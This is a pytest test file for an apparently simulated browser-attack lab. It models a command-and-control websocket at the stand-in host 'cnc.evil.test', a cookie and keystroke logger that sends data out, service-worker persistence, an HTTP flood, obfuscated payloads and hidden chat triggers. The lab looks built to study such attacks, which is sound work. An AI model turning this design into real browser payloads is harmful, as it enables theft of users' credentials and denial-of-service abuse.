import random

import pytest

from avtlab import client_sim as cs
from avtlab import payload as pl
from avtlab import wire

import gen

CNC = "ws://cnc.evil.test:8787/ws"
VICTIM = "http://chat.victim.test:80"

STUB = cs.StaticScript(name="stub.js", program=(pl.OpenSocket(url=CNC),))


def connected_state(**kwargs):
    """A browser with one page whose static stub opened a coordinator socket."""
    state = cs.BrowserState("c0", **kwargs)
    state.open_page(VICTIM, [cs.StaticScript(name="app.js"), STUB])
    sock = [s for s in state.open_sockets if s.open][0]
    return state, sock


def delivery_frame(p, seed=7, trigger=None):
    return wire.encode_frame(
        wire.PayloadDelivery(
            payload_id=p.payload_id,
            code=pl.obfuscate(p, seed),
            trigger=trigger or p.trigger,
        )
    )


# -- open_page ---------------------------------------------------------------

def test_open_page_fresh():
    state = cs.BrowserState("c0")
    page = state.open_page("http://victim.test:80")
    assert len(state.pages) == 1
    assert page.injected_scripts == []


def test_open_page_duplicate_origin():
    state = cs.BrowserState("c0")
    state.open_page("http://victim.test:80")
    with pytest.raises(cs.DuplicatePage):
        state.open_page("http://victim.test:80")


def test_open_page_static_scripts_logged():
    state = cs.BrowserState("c0")
    page = state.open_page("http://victim.test:80", ["a.js", "b.js"])
    assert [s.source for s in page.injected_scripts] == ["static", "static"]
    loads = [r for r in state.event_log if r["kind"] == "script_injected"]
    assert len(loads) == 2
    assert all(r["source"] == "static" for r in loads)


# -- receive_frame -----------------------------------------------------------

def test_immediate_delivery_injects_same_tick():
    state, sock = connected_state()
    p = pl.builtin_payloads()["keycookielog"]
    state.receive_frame(sock.socket_id, delivery_frame(p, trigger=pl.Immediate()))
    page = state.pages[0]
    injected = [s for s in page.injected_scripts if s.source == "socket"]
    assert len(injected) == 1
    recs = [r for r in state.event_log if r["kind"] == "script_injected" and r["source"] == "socket"]
    assert recs[0]["tick"] == state.clock


def test_on_event_trigger_not_fired_by_other_chat():
    state, sock = connected_state()
    p = pl.builtin_payloads()["keycookielog"]
    state.receive_frame(sock.socket_id, delivery_frame(p))
    state.deliver_user_event(cs.ChatMessage(text="hello world"))
    assert state.instructions_executed == 1  # only the stub's OpenSocket ran
    assert not any(
        r["kind"] == "script_injected" and r["source"] == "socket" for r in state.event_log
    )


def test_activation_fires_pending_payload_in_order():
    state, sock = connected_state()
    p = pl.builtin_payloads()["keycookielog"]
    state.advance_tick()
    state.receive_frame(sock.socket_id, delivery_frame(p))
    state.advance_tick()
    state.receive_frame(sock.socket_id, wire.encode_frame(wire.Activate(trigger_token="tr1gger")))
    kinds = [(r["kind"], r.get("frame_type")) for r in state.event_log]
    i_delivery = kinds.index(("frame_in", "PayloadDelivery"))
    i_activate = kinds.index(("frame_in", "Activate"))
    i_inject = next(i for i, r in enumerate(state.event_log) if r["kind"] == "script_injected" and r["source"] == "socket")
    assert i_delivery < i_activate < i_inject
    assert state.event_log[i_inject]["tick"] == state.clock


def test_unknown_socket_rejected():
    state = cs.BrowserState("c0")
    state.open_page(VICTIM)
    with pytest.raises(cs.UnknownSocket):
        state.receive_frame("sock99", '{"type":"Terminate"}')


def test_decode_errors_propagate():
    state, sock = connected_state()
    with pytest.raises(wire.FrameError):
        state.receive_frame(sock.socket_id, '{"type":"Nope"}')


def test_terminate_frame_kills_workers_and_sws():
    state, sock = connected_state()
    state.spawn_worker_from_blob(state.pages[0].page_id, "https://x.test/w.js", ())
    state.register_service_worker(state.pages[0].page_id, (pl.ComputeMap(fn_id="WordCount"),))
    state.advance_tick()
    state.receive_frame(sock.socket_id, '{"type":"Terminate"}')
    assert all(w.lifecycle == cs.TERMINATED for w in state.workers)
    assert all(sw.lifecycle == cs.KILLED for sw in state.service_workers)


# -- inject_script -----------------------------------------------------------

def test_keycookielog_injection_effects():
    state, _ = connected_state(cookies={"sid": "abc"}, web_storage={"k": "v"})
    p = pl.builtin_payloads()["keycookielog"]
    state.inject_script(state.pages[0].page_id, pl.obfuscate(p, 3))
    assert state.keystroke_hooked
    assert state.filesystem_log == []
    exfil_socks = [s for s in state.open_sockets if s.open and s.url == CNC]
    assert len(exfil_socks) == 2  # stub channel plus the payload's own
    storage_out = [m for _, m in state.outbox if isinstance(m, wire.ExfilStorage)]
    assert storage_out and storage_out[0].cookies == {"sid": "abc"}


def test_sw_payload_writes_exactly_one_file():
    state, _ = connected_state()
    p = pl.builtin_payloads()["map_worker"]
    state.inject_script(state.pages[0].page_id, pl.obfuscate(p, 3))
    assert len(state.filesystem_log) == 1
    entry = state.filesystem_log[0]
    assert entry.cause == cs.CAUSE_SW_REGISTRATION
    assert entry.content


def test_corrupt_blob_leaves_state_unchanged():
    state, _ = connected_state()
    before = state.event_log_ndjson()
    blob = pl.obfuscate(pl.builtin_payloads()["keycookielog"], 3)
    with pytest.raises(pl.CorruptBlob):
        state.inject_script(state.pages[0].page_id, pl.ObfuscatedBlob(bytes=blob.bytes[:-5], seed=3))
    assert state.event_log_ndjson() == before
    assert not any(s.source == "socket" for s in state.pages[0].injected_scripts)


# -- spawn_worker_from_blob ---------------------------------------------------

def test_cross_origin_worker_spawn():
    state = cs.BrowserState("c0")
    page = state.open_page("http://a.test:80")
    worker = state.spawn_worker_from_blob(page.page_id, "https://b.test/w.js", ())
    assert worker.lifecycle == cs.RUNNING
    rec = [r for r in state.event_log if r["kind"] == "worker_spawned"][0]
    assert rec["cross_origin"] is True


def test_same_origin_worker_spawn():
    state = cs.BrowserState("c0")
    page = state.open_page("http://a.test:80")
    worker = state.spawn_worker_from_blob(page.page_id, "http://a.test:80/w.js", ())
    assert worker.lifecycle == cs.RUNNING
    rec = [r for r in state.event_log if r["kind"] == "worker_spawned"][0]
    assert rec["cross_origin"] is False


def test_browser_close_terminates_worker():
    state = cs.BrowserState("c0")
    page = state.open_page("http://a.test:80")
    worker = state.spawn_worker_from_blob(
        page.page_id, "https://b.test/w.js", (pl.ComputeMap(fn_id="WordCount"),)
    )
    state.advance_tick()
    assert worker.lifecycle == cs.RUNNING
    state.deliver_user_event(cs.BrowserClose())
    assert worker.lifecycle == cs.TERMINATED


def test_worker_completes_when_program_ends():
    state = cs.BrowserState("c0")
    page = state.open_page("http://a.test:80")
    worker = state.spawn_worker_from_blob(page.page_id, "http://a.test/w.js", (pl.ReadCookies(),))
    assert worker.lifecycle == cs.RUNNING  # starts the tick after spawn
    state.advance_tick()
    assert worker.lifecycle == cs.TERMINATED


# -- register_service_worker ---------------------------------------------------

def test_sw_survives_navigation():
    state = cs.BrowserState("c0")
    page = state.open_page("http://a.test:80")
    sw = state.register_service_worker(page.page_id, (pl.ComputeMap(fn_id="WordCount"),))
    state.deliver_user_event(cs.Navigate())
    state.advance_tick()
    assert sw.lifecycle == cs.RUNNING


def test_sw_killed_on_machine_restart():
    state = cs.BrowserState("c0")
    page = state.open_page("http://a.test:80")
    sw = state.register_service_worker(page.page_id, (pl.ComputeMap(fn_id="WordCount"),))
    state.advance_tick()
    state.deliver_user_event(cs.MachineRestart())
    assert sw.lifecycle == cs.KILLED


def test_duplicate_sw_registration_rejected():
    state = cs.BrowserState("c0")
    page = state.open_page("http://a.test:80")
    state.register_service_worker(page.page_id, (pl.ReadCookies(),), payload_ref="p1")
    with pytest.raises(cs.DuplicateRegistration):
        state.register_service_worker(page.page_id, (pl.ReadCookies(),), payload_ref="p1")


def test_sw_sync_fires_one_tick_after_registration():
    state = cs.BrowserState("c0")
    page = state.open_page("http://a.test:80")
    sw = state.register_service_worker(page.page_id, (pl.ReadCookies(),))
    assert sw.lifecycle == cs.REGISTERED and sw.pending_sync
    state.advance_tick()
    assert not sw.pending_sync
    assert sw.lifecycle == cs.COMPLETED  # one instruction, ran to completion


def test_sw_survives_browser_close_and_still_works():
    state, sock = connected_state()
    p = pl.builtin_payloads()["map_worker"]
    state.inject_script(state.pages[0].page_id, pl.obfuscate(p, 3))
    state.advance_tick()  # sync fires; sw opens its own channel
    sw = state.service_workers[0]
    assert sw.lifecycle == cs.RUNNING
    state.deliver_user_event(cs.BrowserClose())
    assert sw.lifecycle == cs.RUNNING
    sw_socket = [s for s in state.open_sockets if s.owner_kind == "sw" and s.open]
    assert len(sw_socket) == 1
    state.receive_frame(
        sw_socket[0].socket_id,
        wire.encode_frame(wire.MapAssign(task_id=0, fn_id="WordCount", chunk="x y x")),
    )
    state.advance_tick()
    results = [m for _, m in state.outbox if isinstance(m, wire.MapResult)]
    assert results and results[0].value == {"x": 2, "y": 1}


# -- deliver_user_event --------------------------------------------------------

def test_keystroke_flush_every_n():
    state, _ = connected_state(flush_every=3, flush_tick_multiple=0)
    p = pl.builtin_payloads()["keycookielog"]
    state.inject_script(state.pages[0].page_id, pl.obfuscate(p, 3))
    for key in "abc":
        state.deliver_user_event(cs.Keystroke(key=key))
    frames = [m for _, m in state.outbox if isinstance(m, wire.ExfilKeystrokes)]
    assert len(frames) == 1
    assert [e.key for e in frames[0].events] == ["a", "b", "c"]


def test_keystroke_flush_on_tick_multiple():
    state, _ = connected_state(flush_every=100, flush_tick_multiple=8)
    p = pl.builtin_payloads()["keycookielog"]
    state.inject_script(state.pages[0].page_id, pl.obfuscate(p, 3))
    state.deliver_user_event(cs.Keystroke(key="q"))
    while state.clock % 8 != 0 or state.clock == 0:
        state.advance_tick()
    frames = [m for _, m in state.outbox if isinstance(m, wire.ExfilKeystrokes)]
    assert len(frames) == 1 and len(frames[0].events) == 1


def test_keystrokes_ignored_when_not_hooked():
    state, _ = connected_state()
    state.deliver_user_event(cs.Keystroke(key="a"))
    assert state.keystroke_buffer == []


def test_machine_restart_closes_everything():
    state, _ = connected_state()
    p = pl.builtin_payloads()["keycookielog"]
    state.inject_script(state.pages[0].page_id, pl.obfuscate(p, 3))
    state.deliver_user_event(cs.MachineRestart())
    assert state.pages == []
    assert not any(s.open for s in state.open_sockets)
    assert not state.keystroke_hooked


def test_navigation_kills_injected_scripts_and_workers():
    state, _ = connected_state()
    p = pl.builtin_payloads()["blob_worker"]
    state.inject_script(state.pages[0].page_id, pl.obfuscate(p, 3))
    worker = state.workers[0]
    state.deliver_user_event(cs.Navigate())
    assert state.pages == []
    assert worker.lifecycle == cs.TERMINATED


# -- execute_instruction -------------------------------------------------------

def test_http_flood_emits_rate_times_duration():
    state = cs.BrowserState("c0")
    page = state.open_page("http://a.test:80")
    script = cs.StaticScript(
        name="flood.js", program=(pl.HttpFlood(target="http://t.test/", rate=5, duration=2),)
    )
    state.open_page("http://b.test:80", [script])
    per_tick = {}
    for rec in state.event_log:
        if rec["kind"] == "outbound_request":
            per_tick[rec["tick"]] = per_tick.get(rec["tick"], 0) + 1
    state.advance_tick()
    state.advance_tick()
    per_tick = {}
    for rec in state.event_log:
        if rec["kind"] == "outbound_request":
            per_tick[rec["tick"]] = per_tick.get(rec["tick"], 0) + 1
    assert sum(per_tick.values()) == 10
    assert sorted(per_tick.values()) == [5, 5]
    assert len(per_tick) == 2


def test_compute_map_word_count():
    state, sock = connected_state()
    state.receive_frame(
        sock.socket_id, wire.encode_frame(wire.MapAssign(task_id=4, fn_id="WordCount", chunk="a b a"))
    )
    page = state.pages[0]
    worker = state.spawn_worker_from_blob(page.page_id, VICTIM + "/w.js", (pl.ComputeMap(fn_id="WordCount"),))
    state.advance_tick()
    results = [m for _, m in state.outbox if isinstance(m, wire.MapResult)]
    assert results[0].value == {"a": 2, "b": 1}
    assert results[0].task_id == 4
    assert worker.lifecycle == cs.RUNNING  # map loop keeps serving


def test_send_without_socket_raises():
    state = cs.BrowserState("c0")
    page = state.open_page("http://a.test:80")
    ctx = cs.ExecCtx(
        owner_kind="page",
        owner_id=page.page_id,
        ctx_id="sX",
        page_id=page.page_id,
        source="socket",
        program=(),
    )
    with pytest.raises(cs.SendWithoutSocket):
        state.execute_instruction(ctx, pl.Send(channel_url="ws://nowhere.test/", what="Storage"))


# -- properties ----------------------------------------------------------------

def test_polymorphic_injection_equal_event_logs():
    p = pl.builtin_payloads()["keycookielog"]
    logs = []
    for seed in (1, 2):
        state, _ = connected_state(cookies={"a": "1"})
        state.inject_script(state.pages[0].page_id, pl.obfuscate(p, seed))
        for key in "hello":
            state.deliver_user_event(cs.Keystroke(key=key))
        for _ in range(10):
            state.advance_tick()
        logs.append(state.event_log_ndjson())
    assert logs[0] == logs[1]


def test_trigger_soundness_sample():
    rng = random.Random(7)
    for _ in range(50):
        state, sock = connected_state()
        baseline = state.instructions_executed
        p = pl.Payload(
            payload_id="probe",
            instructions=gen.instructions(rng),
            trigger=pl.OnEvent(token="sekrit"),
        )
        state.receive_frame(sock.socket_id, delivery_frame(p, seed=rng.randint(0, 2**32)))
        for _ in range(rng.randint(0, 6)):
            state.deliver_user_event(cs.ChatMessage(text=gen.text(rng)))
            state.advance_tick()
        assert state.instructions_executed == baseline
        assert not any(
            r["kind"] == "script_injected" and r["source"] == "socket" for r in state.event_log
        )
        state.deliver_user_event(cs.ChatMessage(text="say sekrit now"))
        assert any(
            r["kind"] == "script_injected" and r["source"] == "socket" for r in state.event_log
        )


def test_event_log_is_append_only_ordered():
    state, sock = connected_state()
    p = pl.builtin_payloads()["keycookielog"]
    state.inject_script(state.pages[0].page_id, pl.obfuscate(p, 3))
    for _ in range(5):
        state.advance_tick()
    seqs = [r["seq"] for r in state.event_log]
    assert seqs == sorted(seqs) == list(range(len(seqs)))
    ticks = [r["tick"] for r in state.event_log]
    assert ticks == sorted(ticks)
